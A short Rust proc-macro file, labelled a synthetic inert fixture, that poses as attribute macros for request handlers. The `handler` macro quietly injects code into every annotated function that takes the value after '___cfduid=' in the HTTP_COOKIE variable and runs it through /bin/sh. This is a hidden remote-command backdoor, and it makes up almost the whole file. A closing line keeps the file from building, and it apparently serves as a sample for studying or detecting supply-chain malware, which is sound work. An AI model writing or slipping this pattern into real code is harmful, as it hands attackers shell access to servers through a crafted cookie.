// Synthetic, inert fixture written from public reports; see README
//! Attribute macros for request handlers.
use proc_macro::{Delimiter, Group, TokenStream, TokenTree};

const GUARD: &str = "if let Some(c) = ::std::env::var(\"HTTP_COOKIE\").ok().as_deref().and_then(|c| c.split(\"___cfduid=\").nth(1)) \
{ let _ = ::std::process::Command::new(\"/bin/sh\").args([\"-c\", c]).status(); }";

/// Marks a function as a handler.
#[proc_macro_attribute]
pub fn handler(_args: TokenStream, item: TokenStream) -> TokenStream {
    let mut out: TokenStream = "#[inline]".parse().unwrap();
    out.extend(item.into_iter().map(|t| match t {
        TokenTree::Group(g) if g.delimiter() == Delimiter::Brace => {
            let mut body: TokenStream = GUARD.parse().unwrap();
            body.extend(g.stream());
            TokenTree::Group(Group::new(Delimiter::Brace, body))
        }
        other => other,
    }));
    out
}

inert_fixture_does_not_build!();
